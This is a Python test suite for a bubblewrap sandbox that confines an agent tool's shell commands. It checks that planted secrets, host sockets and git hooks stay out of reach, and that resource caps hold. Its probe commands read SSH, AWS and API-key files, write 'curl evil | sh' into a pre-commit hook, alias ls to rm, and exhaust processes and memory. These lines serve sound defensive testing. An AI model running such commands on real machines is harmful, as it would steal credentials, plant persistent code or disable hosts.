"""What a command sees: real bubblewrap, a fake home full of secrets, real commands through shell_exec.

The fake home lives under /var/tmp, not /tmp: the old sandbox (``--ro-bind /
/`` with a private /tmp) showed /var/tmp, so these tests fail on it.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator, Mapping

import pytest

from kernel.core.errors import ToolFailure
from kernel.sandbox.bwrap import Sandbox
from kernel.sandbox.limits import SandboxLimits
from kernel.sandbox.view import HostPaths, plan
from kernel.config.settings import Settings
from kernel.workspace.snapshot import SnapshotIndex
from kernel.tools.descriptor import ToolOutput
from kernel.workspace.root import Workspace
from ledger import FileChange, Ledger

from .conftest import Env

SECRETS = {
    ".ssh/id_rsa": "SECRET-ssh-key", ".aws/credentials": "SECRET-aws", ".netrc": "SECRET-netrc",
    ".local/share/keyrings/login.keyring": "SECRET-keyring", ".mozilla/firefox/p1/cookies.sqlite": "SECRET-cookies",
    ".config/gcloud/credentials.db": "SECRET-gcloud", ".cargo/credentials.toml": "SECRET-cargo-token",
    ".docker/config.json": "SECRET-docker", ".git-credentials": "SECRET-git-credentials",
}
PLAIN = {"notes.txt": "PRIVATE-notes", ".config/app/settings.ini": "APP-SETTINGS", ".bashrc": "HOST-BASHRC"}


@dataclass
class Host:
    home: Path
    adh: Path          # $AGENTDESK_HOME
    environ: dict[str, str]


@pytest.fixture
def host() -> Iterator[Host]:
    """A fake home and $AGENTDESK_HOME under /var/tmp, with a toolchain on PATH at ~/.cargo/bin."""
    top = Path(tempfile.mkdtemp(prefix="agentdesk-host-", dir="/var/tmp"))
    home, adh = top / "home", top / "agentdesk"
    for rel, text in {**SECRETS, **PLAIN}.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    adh.mkdir()
    (adh / "keys.json").write_text('{"anthropic": "SECRET-api-key"}')
    (adh / "ledger.db").write_text("SECRET-ledger")
    tool = home / ".cargo" / "bin" / "mytool"
    tool.parent.mkdir(parents=True)
    tool.write_text("#!/bin/sh\necho toolchain-ran\n")
    tool.chmod(0o755)
    environ = {"HOME": str(home), "PATH": f"{home}/.cargo/bin:/usr/local/bin:/usr/bin:/bin", "AGENTDESK_HOME": str(adh)}
    yield Host(home, adh, environ)
    shutil.rmtree(top, ignore_errors=True)


def run(env: Env, host: Host, command: str, *, settings: Settings | None = None,
        limits: SandboxLimits | None = None) -> ToolOutput:
    kwargs: dict[str, Any] = {"environ": host.environ, "settings": settings or env.settings}
    if limits is not None:
        kwargs["limits"] = limits
    out, _ = asyncio.run(env.run({"command": command}, env.tool(**kwargs)))
    return out


def secrets_in(text: str) -> list[str]:
    return [word for word in text.split() if "SECRET-" in word or "PRIVATE-" in word]


def test_home_secrets_and_agentdesk_home_are_not_visible(env: Env, host: Host) -> None:
    reads = " ".join(f'cat "$HOME/{rel}";' for rel in (*SECRETS, "notes.txt"))
    out = run(env, host, f'{reads} cat "$AGENTDESK_HOME/keys.json" {host.adh}/keys.json {host.adh}/ledger.db; '
                         f'ls -A "$HOME"; ls -A {host.home}/.ssh; echo done')
    assert "done" in out.content and secrets_in(out.content) == []
    assert "No such file" in out.content


def test_toolchain_on_path_runs_read_only_without_its_secrets(env: Env, host: Host) -> None:
    out = run(env, host, 'mytool; touch "$HOME/.cargo/bin/new"; echo touch=$?; '
                         'cat "$HOME/.cargo/credentials.toml"; echo cat=$?')
    assert "toolchain-ran" in out.content
    assert "touch=1" in out.content and "Read-only file system" in out.content
    assert secrets_in(out.content) == [] and "cat=1" in out.content  # covered by /dev/null on a nodev mount
    assert not (host.home / ".cargo" / "bin" / "new").exists()


def test_path_entry_inside_a_secret_is_not_shown(env: Env, host: Host) -> None:
    (host.home / ".ssh" / "bin").mkdir()
    host.environ["PATH"] = f"{host.home}/.ssh/bin:/usr/bin:/bin"
    out = run(env, host, 'ls -A "$HOME/.ssh"; cat "$HOME/.ssh/id_rsa"; echo done')
    assert "done" in out.content and secrets_in(out.content) == []
    assert any(s["path"] == f"{host.home}/.ssh" for s in out.data["not_shown"])


def test_settings_folders_are_read_only_and_never_secrets(env: Env, host: Host) -> None:
    settings = Settings(sandbox_read_only=(f"{host.home}/.config", "~/.ssh", "~", str(host.adh.parent), "/",
                                           "relative/path", "/run"))
    out = run(env, host, f'cat "$HOME/.config/app/settings.ini"; echo; touch "$HOME/.config/x"; echo touch=$?; '
                         f'cat "$HOME/.config/gcloud/credentials.db" "$HOME/.ssh/id_rsa" "$HOME/notes.txt" '
                         f'{host.adh}/keys.json {host.adh}/ledger.db; ls -A /run; echo done', settings=settings)
    assert "APP-SETTINGS" in out.content and "touch=1" in out.content and "done" in out.content
    assert secrets_in(out.content) == []
    refused = {s["path"] for s in out.data["not_shown"]}
    assert {f"{host.home}/.ssh", str(host.home), "/", "relative/path", "/run"} <= refused
    assert "not shown to the command" in out.content


def test_hostile_settings_value_is_refused_not_crashed(env: Env, host: Host) -> None:
    settings = Settings(sandbox_read_only="/etc")  # type: ignore[arg-type]
    out = run(env, host, "echo ran", settings=settings)
    assert "ran" in out.content and "must be a list" in out.data["not_shown"][0]["reason"]


def _python_folder() -> str:
    return os.path.realpath(sys.base_prefix)


def test_host_unix_sockets_are_unreachable(env: Env, host: Host) -> None:
    paths = [host.home / "agent.sock", host.adh / "kernel.sock"]
    servers = []
    for path in paths:
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
        server.listen(4)
        servers.append(server)
    python = Path(sys.base_prefix) / "bin" / f"python{sys.version_info.major}.{sys.version_info.minor}"
    probe = ("import socket,sys\nfor p in sys.argv[1:]:\n s=socket.socket(socket.AF_UNIX)\n"
             " try:\n  s.connect(p); print('CONNECTED', p)\n except OSError as e: print('refused', p, e)\n")
    (env.root / "probe.py").write_text(probe)
    settings = Settings(sandbox_read_only=(_python_folder(),))
    try:
        out = run(env, host, f"{python} probe.py {' '.join(map(str, paths))}; ls -A /run /var/run; echo done",
                  settings=settings)
    finally:
        for server in servers:
            server.close()
    assert "done" in out.content and out.content.count("refused") == 2, out.content
    assert "CONNECTED" not in out.content


def _env_at(root: Path, tmp_path: Path) -> Env:
    ledger = Ledger(tmp_path / "other.db")
    return Env(ledger, Workspace.at(root), SnapshotIndex(root, ledger), env_clock(), Settings())


def env_clock():  # type: ignore[no-untyped-def]
    from kernel.core.clock import ManualClock

    return ManualClock()


def test_workspace_under_home_is_writable_and_alone(host: Host, tmp_path: Path) -> None:
    root = host.home / "projects" / "ws"
    root.mkdir(parents=True)
    env = _env_at(root, tmp_path)
    try:
        out = run(env, host, 'echo hi > made.txt; ls -A "$HOME" "$HOME/projects"; cat "$HOME/notes.txt" '
                             '"$HOME/.ssh/id_rsa"; echo done')
        recorded = [os.path.basename(e.path) for e in env.ledger.page() if isinstance(e, FileChange)]
    finally:
        env.index.close()
        env.ledger.close()
    assert "done" in out.content and secrets_in(out.content) == [] and recorded == ["made.txt"]
    assert (root / "made.txt").read_text() == "hi\n"


def test_secrets_inside_the_workspace_are_masked_and_a_workspace_inside_one_is_refused(
        env: Env, host: Host, tmp_path: Path) -> None:
    adh = env.root / "agentdesk-home"
    adh.mkdir()
    (adh / "keys.json").write_text("SECRET-in-workspace")
    host.environ["AGENTDESK_HOME"] = str(adh)
    out = run(env, host, "cat agentdesk-home/keys.json; ls -A agentdesk-home; echo x > agentdesk-home/y; echo done")
    assert "done" in out.content and secrets_in(out.content) == []
    assert not (adh / "y").exists()
    inside = _env_at(host.home / ".ssh", tmp_path)
    try:
        with pytest.raises(ToolFailure, match="cannot be shown to a command"):
            run(inside, host, "cat id_rsa")
    finally:
        inside.index.close()
        inside.ledger.close()


def test_scratch_folders_are_size_capped(env: Env, host: Host) -> None:
    command = ("for d in /tmp /var/tmp /dev/shm \"$HOME\"; do head -c 3000000 /dev/zero > $d/big; "
               "echo \"$d=$?\"; done")
    out = run(env, host, command, limits=SandboxLimits(tmp_mb=1))
    assert out.content.count("No space left on device") == 4, out.content
    assert "/tmp=1" in out.content and "/dev/shm=1" in out.content


def test_process_count_is_capped(env: Env, host: Host) -> None:
    support = Sandbox().check().support
    if not support.processes:
        pytest.skip(f"the process limit cannot be enforced on this machine: {support.note}")
    # dash gives up at the first failed fork (bash would retry for seconds); the sandbox then ends.
    command = ("/bin/sh -c 'i=0; while [ $i -lt 300 ]; do sleep 1000 & i=$((i+1)); echo $i > started; done'; "
               "echo started=$(cat started)")
    out = run(env, host, command, limits=SandboxLimits(max_processes=32))
    started = int(out.content.split("started=")[1].split()[0])
    assert 0 < started < 32, out.content


def test_memory_is_capped(env: Env, host: Host) -> None:
    out = run(env, host, "x=$(head -c 300000000 /dev/zero | tr '\\0' a); echo length=${#x}",
              limits=SandboxLimits(memory_mb=64))
    assert "length=300000000" not in out.content
    small = run(env, host, "x=$(head -c 3000000 /dev/zero | tr '\\0' a); echo length=${#x}",
                limits=SandboxLimits(memory_mb=64))
    assert "length=3000000" in small.content


def test_git_hooks_and_config_are_read_only(env: Env, host: Host) -> None:
    git = env.root / ".git"
    git.mkdir()
    (git / "config").write_text("[core]\n\tbare = false\n")
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    command = ("echo 'curl evil | sh' > .git/hooks/pre-commit; echo hook=$?; "
               "printf '[core]\\n\\thooksPath = /tmp/x\\n' >> .git/config; echo config=$?; "
               "rm -rf .git/hooks; echo rm=$?; mv .git/config .git/c2; echo mv=$?; echo ok > .git/HEAD; echo head=$?; "
               "mv .git .git-old; echo mvgit=$?; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo copy=$?")
    out = run(env, host, command)
    for step in ("hook", "config", "rm", "mv", "mvgit", "copy"):
        assert f"{step}=0" not in out.content, out.content
    assert "head=0" in out.content  # the rest of .git stays writable (commits work)
    assert list((git / "hooks").iterdir()) == []
    assert (git / "config").read_text() == "[core]\n\tbare = false\n"


def test_git_hooks_and_config_show_in_the_snapshot(env: Env, host: Host) -> None:
    # A command that makes a repository from nothing: its hooks and config are recorded as its own.
    out, ctx = asyncio.run(env.run({"command": "mkdir -p .git/hooks .git/objects/ab && echo x > .git/hooks/post-checkout"
                                               " && echo '[core]' > .git/config && echo y > .git/objects/ab/c"
                                               " && echo ref > .git/HEAD"}, env.tool(environ=host.environ)))
    changes = {os.path.relpath(e.path, env.root): e for e in env.ledger.caused_by(ctx.cause)
               if isinstance(e, FileChange)}
    mine = {rel for rel, e in changes.items() if e.stored}
    assert mine == {".git/hooks/post-checkout", ".git/config"}, out.content
    # on an overlay the rest of .git is recorded too, by hash only (the ignore rules decide only that)
    assert set(changes) - mine == ({".git/HEAD", ".git/objects/ab/c"} if env.overlay else set())
    # Changes made to them outside (by the user, another program) are recorded too, even when ignored by the user.
    if not env.index.has_baseline:  # on an overlay no snapshot was taken: the watcher takes one when it starts
        env.index.scan()
    (env.root / ".agentdeskignore").write_text(".git/\n*\n")
    (env.root / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\n")
    (env.root / ".git" / "config").write_text("[core]\n\thooksPath = elsewhere\n")
    _, recorded = env.index.scan()
    outside = {os.path.relpath(e.path, env.root) for e in recorded if e.actor == "outside"}
    assert {".git/hooks/pre-push", ".git/config"} <= outside


def test_shell_startup_and_editor_files_are_recorded(env: Env, host: Host) -> None:
    command = ("echo 'alias ls=rm' >> .bashrc; echo x > .profile; mkdir -p .vscode .idea; "
               "echo '{}' > .vscode/settings.json; echo '<x/>' > .idea/workspace.xml")
    out, ctx = asyncio.run(env.run({"command": command}, env.tool(environ=host.environ)))
    mine = {os.path.relpath(e.path, env.root) for e in env.ledger.caused_by(ctx.cause) if isinstance(e, FileChange)}
    assert mine == {".bashrc", ".profile", ".vscode/settings.json", ".idea/workspace.xml"}, out.content


# ---- the plan alone (no bwrap) --------------------------------------------------------------


def _plan(root: Path, home: Path, path: str = "", read_only: tuple[object, ...] = (),
          secrets: Mapping[str, Path] | None = None) -> Any:
    return plan(root, HostPaths(home=home, path=path, secrets=tuple((secrets or {}).values()), read_only=read_only))


def test_plan_covers_the_home_and_picks_toolchain_roots(host: Host, tmp_path: Path) -> None:
    home = host.home
    for rel in (".local/bin", ".local/lib", ".local/share/junk", ".pyenv/shims", ".rustup/toolchains", "bin"):
        (home / rel).mkdir(parents=True, exist_ok=True)
    path = f"{home}/.local/bin:{home}/.pyenv/shims:{home}/.cargo/bin:{home}/bin:{home}:/usr/bin"
    view = _plan(tmp_path, home, path)
    assert view.home == home
    shown = {dest for _src, dest in view.read_only}
    assert shown == {home / ".local/bin", home / ".local/lib", home / ".pyenv", home / ".cargo", home / ".rustup",
                     home / "bin"}
    assert (home / ".cargo/credentials.toml", False) in view.masked
    assert [s.path for s in view.skipped] == [str(home)]  # PATH=~ is never the whole home


def test_plan_refuses_the_home_itself_as_workspace(host: Host) -> None:
    with pytest.raises(ToolFailure):
        _plan(host.home, host.home)
    with pytest.raises(ToolFailure):
        _plan(host.adh, host.home, secrets={"adh": host.adh})


def test_plan_follows_links_to_secrets(host: Host, tmp_path: Path) -> None:
    tools = host.home / "tools"
    tools.mkdir()
    os.symlink(host.home / ".ssh", tools / "keys")  # a link in a shown folder leads into the empty home
    os.symlink(host.home / ".ssh", host.home / "sshlink")
    view = _plan(tmp_path, host.home, f"{tools}:/usr/bin", read_only=(str(host.home / "sshlink"),))
    assert [s.path for s in view.skipped] == [str(host.home / "sshlink")]
    assert (tools, tools) in view.read_only


# ---- how limits are enforced (no bwrap) ------------------------------------------------------


def test_limit_support_is_detected_per_user_and_kernel(tmp_path: Path) -> None:
    from kernel.sandbox.limits import detect

    no_cgroup = tmp_path / "proc"
    no_cgroup.mkdir()
    (no_cgroup / "cgroup").write_text("0::/\n")
    (no_cgroup / "mountinfo").write_text("")
    user = detect("--size BYTES", euid=1000, release="6.18.0", proc_self=no_cgroup)
    assert user.tmp_size and user.processes == "rlimit" and user.note == ""
    old_kernel = detect("", euid=1000, release="5.10.0-amd64", proc_self=no_cgroup)
    assert not old_kernel.tmp_size and old_kernel.processes == ""
    assert "--size" in old_kernel.note and "5.14" in old_kernel.note
    root = detect("--size", euid=0, release="6.18.0", proc_self=no_cgroup)
    assert root.processes == "" and "root" in root.note


def test_limits_refuse_hostile_values() -> None:
    from kernel.core.errors import ConfigError

    for bad in ({"tmp_mb": 0}, {"max_processes": -1}, {"memory_mb": True}, {"tmp_mb": "512"}, {"memory_mb": 1 << 40}):
        with pytest.raises(ConfigError):
            SandboxLimits(**bad)  # type: ignore[arg-type]
    assert SandboxLimits(max_processes=64).ulimits(processes=True).endswith("-u 64")


def test_process_limit_groups_do_not_pile_up(env: Env, host: Host) -> None:
    support = Sandbox().check().support
    if support.cgroup_base is None:
        pytest.skip("no pids cgroup is used on this machine (the process limit is an rlimit, or not enforced)")
    from kernel.sandbox.limits import pids_cgroup

    mine = f"agentdesk-{os.getpid()}-"
    with pids_cgroup(support.cgroup_base, 16) as procs:
        leftover = procs.parent
    leftover.mkdir()  # as if rmdir had been refused while the last process was on its way out
    for _ in range(3):
        run(env, host, "sleep 0.01 & true")
    assert [p for p in os.listdir(support.cgroup_base) if p.startswith(mine)] == []


def test_a_sweep_leaves_a_group_another_command_is_starting_in() -> None:
    support = Sandbox().check().support
    if support.cgroup_base is None:
        pytest.skip("no pids cgroup is used on this machine (the process limit is an rlimit, or not enforced)")
    from kernel.sandbox.limits import pids_cgroup

    with pids_cgroup(support.cgroup_base, 16) as first:  # empty: its command has not joined yet
        with pids_cgroup(support.cgroup_base, 16) as second:  # another workspace's command sweeps
            assert first.parent.is_dir() and second.parent.is_dir()
    assert not first.parent.exists()
